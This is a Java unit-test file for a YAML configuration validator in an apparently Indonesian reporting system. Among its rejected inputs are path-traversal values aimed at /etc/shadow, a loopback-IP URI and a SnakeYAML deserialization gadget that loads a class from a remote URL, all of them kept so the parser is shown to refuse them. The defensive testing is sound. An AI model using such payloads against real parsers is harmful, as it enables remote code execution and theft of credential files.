package id.kentongan.adapters.kit;

import static org.assertj.core.api.Assertions.assertThat;

import id.kentongan.facts.Classification;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class SourceFilesTest {
    private static final String GOOD = """
            name: polres-harian
            title: Laporan harian Polres
            from:
              uri: sftp://data.example/keluar
              user: kentongan
              password: {file: polres}
              every: 10m
              hostKey: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKcJ0c5mWZ0n0yqk2h3yQ1vE7yC1m8o2dT5m3b0X9sQe
            form:
              reader: table
              zone: WITA
              fields:
                id: Nomor
                region: Kode Wilayah
                indicator: {from: Jenis, map: {Bentrok warga: KEA-01}}
                value: {constant: "1"}
                occurredAt: [Tanggal, Jam]
            as:
              source: POLRES
              classification: TERBATAS
              grade: B2
            limits:
              fresh: 26h
            sample: contoh.csv
            """;

    @Test
    void aGoodFileSaysWhereFromWhichFormAndAsWhom() {
        SourceFile file = source(GOOD);
        assertThat(file.from()).isEqualTo(new From(Scheme.SFTP, "sftp://data.example/keluar", Optional.of("kentongan"),
                Optional.of(new Secret.InFile("polres")), Duration.ofMinutes(10),
                Map.of("after", "keep", "hostKey",
                        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKcJ0c5mWZ0n0yqk2h3yQ1vE7yC1m8o2dT5m3b0X9sQe")));
        assertThat(file.form().fields().get("indicator").map()).containsEntry("bentrok warga", "KEA-01");
        assertThat(file.as().account()).isEqualTo("sumber-polres-harian");
        assertThat(file.as().classification()).contains(Classification.TERBATAS);
        assertThat(file.limits().fresh()).contains(Duration.ofHours(26));
    }

    @Test
    void theStarterIsAGoodFile() {
        assertThat(read("sistem-kota.yaml", Starter.file("sistem-kota")).problems()).isEmpty();
    }

    /** Every mistake is told with the line and the key in which it stands. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "name: polres-harian | name: Polres | 1 | name",
            "name: polres-harian | name: polres-lain | 1 | name",
            "name: polres-harian | nama: polres-harian | 1 | nama",
            "title: Laporan harian Polres | title: | 2 | title",
            "sftp://data.example/keluar | telnet://data.example | 4 | from.uri",
            "sftp://data.example/keluar | sftp://orang:sandi@data.example/keluar | 4 | from.uri",
            "sftp://data.example/keluar | sftp://data.example/keluar?disconnect=true | 4 | from.uri",
            "sftp://data.example/keluar | sftp://data.example/../etc | 4 | from.uri",
            "sftp://data.example/keluar | sftp://2130706433/keluar | 4 | from.uri",
            "sftp://data.example/keluar | file:/etc | 4 | from.uri",
            "sftp://data.example/keluar | jdbc:h2:mem:x | 4 | from.uri",
            "sftp://data.example/keluar | kafka://data.example:9092 | 4 | from.uri",
            "{file: polres} | rahasia123 | 6 | from.password",
            "{file: polres} | {file: ../../etc/shadow} | 6 | from.password.file",
            "{file: polres} | {env: KENTONGAN_ADMIN_PASSWORD} | 6 | from.password.env",
            "{file: polres} | {env: SUMBER_X, file: polres} | 6 | from.password",
            "every: 10m | every: 10 menit | 7 | from.every",
            "every: 10m | every: 30d | 7 | from.every",
            "every: 10m | delay: 10m | 7 | from.delay",
            "hostKey: ssh-ed25519 | hostKey: SHA256:abc | 8 | from.hostKey",
            "every: 10m | after: hapus | 7 | from.after",
            "reader: table | reader: tabel | 10 | form.reader",
            "zone: WITA | zone: UTC+8 | 11 | form.zone",
            "id: Nomor | nomor: Nomor | 13 | form.fields.nomor",
            "{from: Jenis, map: {Bentrok warga: KEA-01}} | {map: {a: b}} | 15 | form.fields.indicator",
            "{constant: \"1\"} | {constant: \"1\", from: Jumlah} | 16 | form.fields.value",
            "occurredAt: [Tanggal, Jam] | occurredAt: {from: Tanggal, format: hari} | 17 | form.fields.occurredAt.format",
            "source: POLRES | account: x y | 19 | as.account",
            "classification: TERBATAS | classification: terbatas | 20 | as.classification",
            "grade: B2 | grade: B7 | 21 | as.grade",
            "fresh: 26h | fresh: 0h | 23 | limits.fresh",
            "fresh: 26h | perMinute: 0 | 23 | limits.perMinute",
            "sample: contoh.csv | sample: ../contoh.csv | 24 | sample"})
    void aMistakeIsToldWithItsLineAndKey(String right, String wrong, int line, String key) {
        assertThat(GOOD).contains(right);
        assertThat(read("polres-harian.yaml", GOOD.replace(right, wrong)).problems())
                .anySatisfy(problem -> assertThat(problem.line() + " " + problem.key()).as("%s", problem)
                        .isEqualTo(line + " " + key));
    }

    @Test
    void aReaderThatIsMistypedIsOneMistake() {
        assertThat(read("polres-harian.yaml", GOOD.replace("reader: table", "reader: tabel")).problems()).singleElement()
                .satisfies(problem -> assertThat(problem.remedy()).contains("Mungkin maksud Anda: table"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "[1, 2]", "a: &x 1\nb: *x", "a: 1\na: 2", "a:\n\t- 1", "a: [1", "? {a: 1}\n: b",
            "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]"})
    void whatIsNoSourceFileIsToldAndNothingOfItRuns(String text) {
        assertThat(read("x.yaml", text).problems()).isNotEmpty();
    }

    @Test
    void depthAndSizeAreBounded() {
        assertThat(read("x.yaml", "a: " + "[".repeat(10_000)).problems()).isNotEmpty();
        assertThat(read("x.yaml", "a: " + "x".repeat(Yaml.LARGEST)).problems()).isNotEmpty();
    }

    /** No way in leaves a mistake without its sentence: whatever is done to the file, it is read or refused with problems. */
    @Test
    void aSpoiltFileIsReadOrRefused() {
        byte[] good = Starter.file("sistem-kota").getBytes(StandardCharsets.UTF_8);
        for (int seed = 0; seed < 3_000; seed++) {
            Random random = new Random(seed);
            byte[] spoilt = good.clone();
            for (int turns = 1 + random.nextInt(6); turns > 0; turns--) {
                spoilt[random.nextInt(spoilt.length)] = (byte) random.nextInt(256);
            }
            SourceFiles.Checked checked = SourceFiles.read("sistem-kota.yaml", spoilt);
            assertThat(checked.source().isPresent()).as("seed %d", seed).isEqualTo(checked.problems().isEmpty());
        }
    }

    @ParameterizedTest
    @EnumSource(Scheme.class)
    void everyWayIsGoodByItsOwnExample(Scheme scheme) {
        String options = scheme.options().stream().filter(option -> option.standard().isEmpty())
                .map(option -> "\n  " + option.key() + ": " + option.example()).collect(Collectors.joining());
        String text = GOOD.replaceAll("(?s)  uri: .*?form:",
                "  uri: \"" + scheme.example() + "\"" + options.replace("$", "") + "\nform:");
        assertThat(read("polres-harian.yaml", text).problems()).isEmpty();
    }

    @Test
    void everyReaderIsNamedInTheStarter() {
        assertThat(List.of(Starter.file("sistem-kota"))).allSatisfy(
                text -> assertThat(text).contains(Arrays.stream(Reader.values()).map(Reader::written).toArray(String[]::new)));
    }

    private static SourceFile source(String text) {
        SourceFiles.Checked checked = read("polres-harian.yaml", text);
        assertThat(checked.problems()).isEmpty();
        return checked.source().orElseThrow();
    }

    private static SourceFiles.Checked read(String name, String text) {
        return SourceFiles.read(name, text.getBytes(StandardCharsets.UTF_8));
    }
}
